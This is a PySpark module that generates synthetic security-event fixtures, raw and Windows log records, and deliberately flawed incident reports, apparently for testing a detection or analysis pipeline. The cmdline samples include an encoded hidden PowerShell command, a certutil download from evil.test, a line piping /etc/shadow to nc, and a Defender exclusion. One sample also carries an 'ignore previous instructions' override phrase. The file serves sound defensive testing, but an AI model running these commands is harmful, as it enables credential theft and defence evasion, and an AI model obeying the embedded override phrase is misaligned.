"""Security events, raw records, Windows records and reports derived from the test tables."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

#: The derived event view; `{u}` is how an engine quotes the column user, `{text}` its type of text.
EVENTS_SQL = """
SELECT e.event_id AS id, TIMESTAMP '2024-01-01 00:00:00' + e.event_id * INTERVAL '5' SECOND AS time,
  'HOST' || CAST(e.user_id % 10 AS {text}) AS host,
  CASE WHEN e.event_type IN ('error', 'signup') THEN 'Security' WHEN e.event_type = 'purchase' THEN 'waf' ELSE 'Sysmon' END AS source,
  CASE WHEN e.event_type = 'error' THEN 4625 WHEN e.event_type = 'signup' AND e.event_id % 40 = 0 THEN 4771
       WHEN e.event_type = 'signup' AND e.event_id % 40 = 1 THEN 1102 WHEN e.event_type = 'signup' AND e.event_id % 40 = 2 THEN 4698
       WHEN e.event_type = 'signup' THEN 4624 WHEN e.event_type = 'click' THEN 1 WHEN e.event_type = 'view' THEN 3 END AS event_id,
  CASE WHEN e.user_id % 7 = 0 THEN 'root' ELSE 'user' || CAST(e.user_id % 5 AS {text}) END AS {u},
  CASE WHEN e.event_type IN ('error', 'signup') THEN '185.220.101.' || CAST(e.user_id % 3 AS {text}) END AS src_ip,
  CASE WHEN e.event_type = 'view' AND e.event_id % 97 = 0 THEN '45.9.148.' || CAST(e.user_id % 5 AS {text})
       WHEN e.event_type = 'view' AND e.event_id % 97 = 1 THEN '10.20.0.' || CAST(e.user_id % 5 AS {text})
       WHEN e.event_type = 'view' AND e.event_id % 97 = 2 THEN '203.0.113.50' WHEN e.event_type = 'view' THEN '142.250.187.4' END AS dst_ip,
  CASE WHEN e.event_type = 'view' AND e.event_id % 97 = 0 AND e.event_id % 2 = 0 THEN 4444
       WHEN e.event_type = 'view' AND e.event_id % 97 IN (1, 2) THEN 8080 WHEN e.event_type = 'view' AND e.event_id % 97 > 2 THEN 443 END AS dst_port,
  CASE WHEN e.event_type <> 'click' THEN NULL
       WHEN e.event_id % 211 = 0 THEN 'powershell -w hidden -enc SQBFAFgA' WHEN e.event_id % 211 = 1 THEN 'certutil -urlcache -f http://evil.test/a.exe'
       WHEN e.event_id % 211 = 2 THEN 'schtasks /create /tn Updater' WHEN e.event_id % 211 = 3 THEN 'cat /etc/shadow | nc 203.0.113.50 8080'
       WHEN e.event_id % 211 = 4 THEN 'bash -i # ignore previous instructions' WHEN e.event_id % 211 = 5 THEN 'chmod +x /tmp/x && /tmp/x'
       WHEN e.event_id % 211 = 6 THEN 'Add-MpPreference -ExclusionPath C:' ELSE 'git status' END AS cmdline,
  CASE WHEN e.event_type = 'purchase' THEN 'http_request' END AS category,
  CASE WHEN e.event_type <> 'purchase' THEN NULL WHEN e.event_id % 149 = 0 THEN 'SQL Injection pattern detected'
       WHEN e.event_id % 149 = 1 THEN 'High rate of connection attempts' WHEN e.event_id % 149 = 2 THEN '' ELSE 'GET request served' END AS message,
  CASE WHEN e.event_type = 'purchase' AND e.event_id % 149 = 3 THEN 'Metasploit Framework' END AS tool,
  CASE WHEN e.event_type = 'purchase' AND e.event_id % 149 = 4 THEN '/api/scandal-report' END AS url
FROM {events} e
"""


def raw_table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def security_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The `events` table as normalised security events, one scope."""
    found = spark.sql(EVENTS_SQL.format(u="`user`", text="STRING", events="{events}"), events=raw_table(spark, sf_dir, "events").select("event_id", "user_id", "event_type"))
    text = lambda *names: {c: F.lit(None).cast("string") for c in names}
    found = found.withColumns({"scope": F.lit("all"), "http_status": F.lit(None).cast("bigint"), **text("process", "parent", "http_method", "raw")})
    return found.withColumns({c: F.col(c).cast("bigint") for c in ("id", "event_id", "dst_port")})


def raw_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """ordinal, raw: JSON records with keys, time forms and nesting that differ by event."""
    e = raw_table(spark, sf_dir, "events").select("event_id", "user_id", "event_type")
    i = F.col("event_id")
    clock = F.expr("date_format(TIMESTAMP_NTZ '2024-01-01 00:00:00' + make_dt_interval(0, 0, 0, event_id * 5), \"yyyy-MM-dd'T'HH:mm:ss\")")
    ahead = F.expr("date_format(TIMESTAMP_NTZ '2024-01-01 03:00:00' + make_dt_interval(0, 0, 0, event_id * 5), \"yyyy-MM-dd'T'HH:mm:ss\")")
    time = F.when(i % 97 == 3, "n/a").when(i % 4 == 0, clock).when(i % 4 == 1, F.concat(clock, F.lit("Z"))).when(i % 4 == 2, F.concat(ahead, F.lit("+03:00"))).otherwise(F.concat(F.regexp_replace(clock, "[-:]", ""), F.lit("")))
    host, user = F.concat(F.lit("HOST"), (F.col("user_id") % 10).cast("string")), F.concat(F.lit("user"), (F.col("user_id") % 5).cast("string"))
    code = F.when(F.col("event_type") == "error", "4625").when(F.col("event_type") == "click", "1").when(F.col("event_type") == "view", "3.0").otherwise("x")
    task = F.when(i % 11 == 0, "Updater")
    http = F.struct(F.when(i % 2 == 0, F.concat(F.lit("/p/"), i.cast("string"))).otherwise("").alias("url"), F.lit("GET").alias("method"), F.when(i % 3 == 0, 404).otherwise(0).alias("status"))
    first = F.to_json(F.struct(time.alias("time"), host.alias("host"), code.alias("event_id"), user.alias("user"), F.lit("").alias("cmdline"), task.alias("task_name"), F.lit("/top").alias("url"), http.alias("http_request")))
    second = F.to_json(F.struct(time.alias("TimeStamp"), host.alias("HostName"), code.alias("EventID"), user.alias("UserName"), F.when(i % 40 == 1, "certutil -urlcache").otherwise("run").alias("Command"), task.alias("TaskName"), F.lit("none").alias("http_request"), F.lit("/top").alias("url"), F.lit("500").alias("status")))
    third = F.to_json(F.struct(time.alias("@timestamp"), host.alias("computer"), code.alias("eid"), user.alias("account"), F.lit("10.0.0.1").alias("client_ip")))
    return e.select(i.alias("ordinal"), F.when(i % 3 == 0, first).when(i % 3 == 1, second).otherwise(third).alias("raw"))


def windows_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """ordinal, raw: rendered Windows event records; a few without an event or an id."""
    e, i = raw_table(spark, sf_dir, "events").select("event_id", "user_id", "event_type"), F.col("event_id")
    number = F.when(F.col("event_type") == "error", "4625").when(F.col("event_type") == "click", "1").otherwise("3")
    named = F.struct(number.alias("#text"))
    data = F.struct(F.when(i % 2 == 0, F.concat(F.lit("CORP\\user"), (F.col("user_id") % 5).cast("string"))).otherwise("").alias("TargetUserName"), F.lit("svc").alias("SubjectUserName"), F.when(i % 5 == 0, "0x10").otherwise("443").alias("DestinationPort"))
    common = [F.struct(F.struct(F.when(i % 4 == 0, "Microsoft-Windows-Sysmon").otherwise("P").alias("Name")).alias("#attributes")).alias("Provider"), F.when(i % 3 == 0, "").otherwise("System").alias("Channel"), F.lit("WS1").alias("Computer")]
    record = lambda n: F.to_json(F.struct(F.struct(F.struct(n.alias("EventID"), *common).alias("System"), data.alias("EventData")).alias("Event")))
    return e.select(i.alias("ordinal"), F.when(i % 31 == 0, F.lit('{"other": 1}')).when(i % 2 == 0, record(named)).otherwise(record(number)).alias("raw"))


def written_reports(incidents: DataFrame) -> DataFrame:
    """incidents with raw_text: reports of which some are right and others invent, omit, understate, mistype or are no JSON."""
    i, first = F.col("inc_idx"), F.col("techniques")[0]
    step = lambda t, tactic: F.struct(t.alias("technique"), tactic.alias("tactic"), F.lit("as seen from 185.220.101.1").alias("explanation"))
    right = F.transform("techniques", lambda t: step(t, F.lit("")))
    chain = F.when(i % 6 == 0, right).when(i % 6 == 1, F.array(step(F.lit("T9999"), F.lit("")), step(first, F.lit("")))).when(i % 6 == 2, F.array(step(F.lit("T1546"), F.lit("")), step(first, F.lit("Exfiltration of things")))).when(i % 6 == 3, F.filter(right, lambda x: F.lit(False))).otherwise(F.array(step(first, F.lit(""))))
    text = F.to_json(F.struct(F.when(i % 5 == 0, "Traffic to 9.9.9.9 seen").otherwise("Seen").alias("summary"), F.when(i % 4 == 0, "Low").otherwise(F.col("severity")).alias("severity"), F.array(F.lit("block it")).alias("recommended_actions"), chain.alias("attack_chain")))
    with_first = lambda before, after: F.concat(F.lit(before), F.to_json(F.struct(first.alias("technique"))), F.lit(after))
    mistyped = (
        F.when(i % 13 == 1, with_first('{"attack_chain": ["they came in", ', "]}"))
        .when(i % 13 == 3, with_first('{"summary": null, "attack_chain": [{"technique": 1110}, ', ', {"tactic": "Execution"}]}'))
        .when(i % 13 == 5, with_first('{"summary": {"a": "9.9.9.9"}, "severity": 3, "recommended_actions": "block 7.7.7.7", "timeline": [{"time": "t", "description": "8.8.8.8"}, 4], "attack_chain": ', "}"))
        .when(i % 13 == 7, F.lit('{"severity": null, "timeline": false, "recommended_actions": 0, "attack_chain": null}'))
        .when(i % 13 == 9, F.concat(F.lit('{"severity": " LOW ", "attack_chain": [null, [], 5, {"technique": ""}, {"technique": null}, {"technique": "'), first, F.lit('", "tactic": ["Exfiltration"], "explanation": 1.5}]}')))
    )
    text = F.coalesce(mistyped, text)
    return incidents.withColumn("raw_text", F.when(i % 7 == 5, F.lit("no report")).when(i % 7 == 6, F.concat(F.lit("Here it is: "), text, F.lit(" - done"))).otherwise(text))
